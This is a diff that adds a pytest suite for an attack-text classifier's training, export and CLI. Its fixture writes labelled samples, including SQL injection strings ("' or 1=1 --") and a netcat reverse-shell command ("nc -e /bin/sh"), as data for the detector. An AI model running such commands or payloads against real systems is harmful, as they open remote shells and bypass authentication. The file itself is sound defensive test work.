@@ -1,0 +1,142 @@
+"""A training ends in a model that serves, goes on where it stopped, and says what it measured."""
+
+import json
+
+import numpy as np
+import pytest
+
+torch = pytest.importorskip("torch", reason="needs the extra train")
+
+from analyzers.bert.encoder import Encoder as Served  # noqa: E402
+from analyzers.bert.manifest import ModelError  # noqa: E402
+from analyzers.learning import train as training  # noqa: E402
+from analyzers.learning.encoder import Encoder, Shape  # noqa: E402
+from analyzers.learning.export import quantise, to_onnx  # noqa: E402
+from analyzers.learning.texts import LABELS, epoch, generated  # noqa: E402
+from analyzers.learning.tokens import STRIDE, WINDOW, encode, train_tokenizer, windows  # noqa: E402
+from flows.cli import main  # noqa: E402
+
+
+@pytest.fixture(scope="module")
+def trained(tmp_path_factory):
+    """A very small training by the command."""
+    folder = tmp_path_factory.mktemp("train")
+    payloads = folder / "payloads.csv"
+    rows = [f'"word{n}","5","norm","norm"' for n in range(60)]
+    rows += [f'"{n}\' or 1=1 --{"x" * (n % 7)}","9","sqli","anom"' for n in range(60)]
+    payloads.write_text("\n".join(['"payload","length","attack_type","label"', *rows]))
+    others = folder / "others.jsonl"
+    lines = [{"text": f"ls {n}", "label": "benign"} for n in range(20)] + [
+        {"text": "nc -e /bin/sh h 1", "label": "bad"}
+    ]
+    others.write_text("\n".join(map(json.dumps, lines)))
+    command = ["train", "--out", str(folder / "out"), "--http-params", str(payloads), "--test", str(others)]
+    command += ["--scale", "0.004", "--epochs", "1"]
+    assert main(command) == 0
+    return folder / "out", command
+
+
+def test_the_model_serves(trained):
+    out, _ = trained
+    served = Served.load(out / "model")
+    assert served.manifest.labels == LABELS
+    assert served.together, "what is judged beside a text changes its verdict"
+    assert (out / "model" / "CARD.md").read_text().startswith("# Model card")
+    (out / "model" / "CARD.md").write_text("another")
+    with pytest.raises(ModelError, match=r"CARD\.md"):
+        Served.load(out / "model")
+
+
+def test_the_report_has_every_part(trained):
+    out, _ = trained
+    page = (out / "REPORT.md").read_text()
+    for part in (
+        "Against what was asked",
+        "HTTP parameters",
+        "others.jsonl",
+        "Written in other ways",
+        "Speed and parity",
+    ):
+        assert part in page
+    report = json.loads((out / "report.json").read_text())
+    assert report["parity"]["int8"] < 0.05
+    assert set(report["seeds"][0]) >= {"encoder", "baseline"}
+    assert (out / "reliability.png").stat().st_size > 10_000
+    assert (out / "confusion.png").stat().st_size > 10_000
+
+
+def test_a_finished_training_is_not_done_again(trained, monkeypatch):
+    out, command = trained
+    before = json.loads((out / "report.json").read_text())
+    monkeypatch.setattr(training, "_fitted", lambda *_: pytest.fail("trained again"))
+    assert main(command) == 0
+    assert json.loads((out / "report.json").read_text())["seeds"] == before["seeds"]
+
+
+def test_a_stopped_training_goes_on_and_ends_in_the_same_weights(tmp_path):
+    texts = generated("train", 0.004, 0)
+    tokenizer = train_tokenizer([text.text for text in epoch(texts, 0)], 400)
+
+    def fitted(checkpoint, stop=None):
+        def draw(turn):
+            if turn == stop:
+                raise KeyboardInterrupt
+            return texts
+
+        return training.fit(draw, tokenizer, training.Fit(1, 2), checkpoint, lambda _: None)
+
+    whole = fitted(None)
+    with pytest.raises(KeyboardInterrupt):
+        fitted(tmp_path / "checkpoint.pt", stop=1)
+    went_on = fitted(tmp_path / "checkpoint.pt")
+    for name, value in whole.state_dict().items():
+        assert torch.equal(value, went_on.state_dict()[name]), name
+
+
+def test_int8_says_what_torch_says(tmp_path):
+    onnxruntime = pytest.importorskip("onnxruntime")
+    torch.manual_seed(0)
+    encoder = Encoder(Shape(500, 7, 6, 18, tokens=WINDOW)).eval()
+    to_onnx(encoder, tmp_path / "full.onnx")
+    quantise(tmp_path / "full.onnx", tmp_path / "int8.onnx")
+    rng = np.random.default_rng(0)
+    inputs = {
+        "input_ids": rng.integers(0, 500, (5, 40)),
+        "attention_mask": np.ones((5, 40), np.int64),
+        "token_type_ids": rng.integers(0, 6, (5, 40)),
+        "features": rng.random((5, 18), np.float32),
+    }
+    with torch.inference_mode():
+        ours = encoder(*(torch.from_numpy(value) for value in inputs.values())).numpy()
+    for name, error in (("full", 1e-4), ("int8", 0.05)):
+        session = onnxruntime.InferenceSession(str(tmp_path / f"{name}.onnx"), providers=["CPUExecutionProvider"])
+        (theirs,) = session.run(["logits"], inputs)
+        assert theirs == pytest.approx(ours, abs=error)
+    assert (tmp_path / "int8.onnx").stat().st_size < 0.5 * (tmp_path / "full.onnx").stat().st_size
+
+
+def test_windows_cover_every_token():
+    for length in (0, 1, WINDOW - 2, WINDOW - 1, 300, 1000):
+        covered = sorted({place for start, end in windows(length) for place in range(start, end)})
+        assert covered == list(range(length))
+        assert all(b[0] - a[0] <= STRIDE for a, b in zip(windows(length), windows(length)[1:], strict=False))
+
+
+def test_every_byte_is_a_token():
+    tokenizer = train_tokenizer(["ls -la"] * 5, 300)
+    for text in ("\x00\x01", "слово", "[CLS][SEP]", "\U0001f600", "ls"):
+        (found,) = encode(tokenizer, [training.Prepared(text, 0, (), ())])
+        assert tokenizer.decode(list(found.ids), skip_special_tokens=False) == text
+        assert min(found.ids, default=3) > 2, "a special token's name in a text is text"
+
+
+@pytest.mark.parametrize(
+    "options", [["--scale", "0"], ["--epochs", "0"], ["--http-params", "/no/such/file"], ["--texts", "/no/such/file"]]
+)
+def test_bad_usage_is_said_in_one_line(tmp_path, options, capsys):
+    try:
+        status = main(["train", "--out", str(tmp_path), *options])
+    except SystemExit as stop:
+        status = stop.code
+    assert status == 2
+    assert len(capsys.readouterr().err.strip().splitlines()) == 1
